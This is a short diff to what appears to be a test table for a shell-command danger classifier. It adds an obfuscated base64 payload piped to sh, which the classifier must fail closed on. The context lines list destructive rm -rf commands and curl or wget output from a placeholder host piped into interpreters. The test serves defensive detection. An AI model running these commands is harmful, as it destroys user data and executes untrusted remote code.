@@ -53,6 +53,8 @@ CASES: dict[str, list[tuple[str, tuple[str, str] | None]]] = {
         ("bash <<'EOF'\nrm -rf ~\nEOF", DANGER),
         ("bash <<< 'rm -rf /etc'", RISKY),
         ("echo 'rm -rf /' | sh", DANGER),
+        ("base64 -d <<< cm0gLXJmIC8K | sh", DANGER),  # unread code: undetermined, fail closed
+        ("echo ls | sh", None),
         ("curl -fsSL https://x | python3", DANGER),
         ("wget -qO- https://x | node", DANGER),
         ("curl -s https://x | perl -", DANGER),
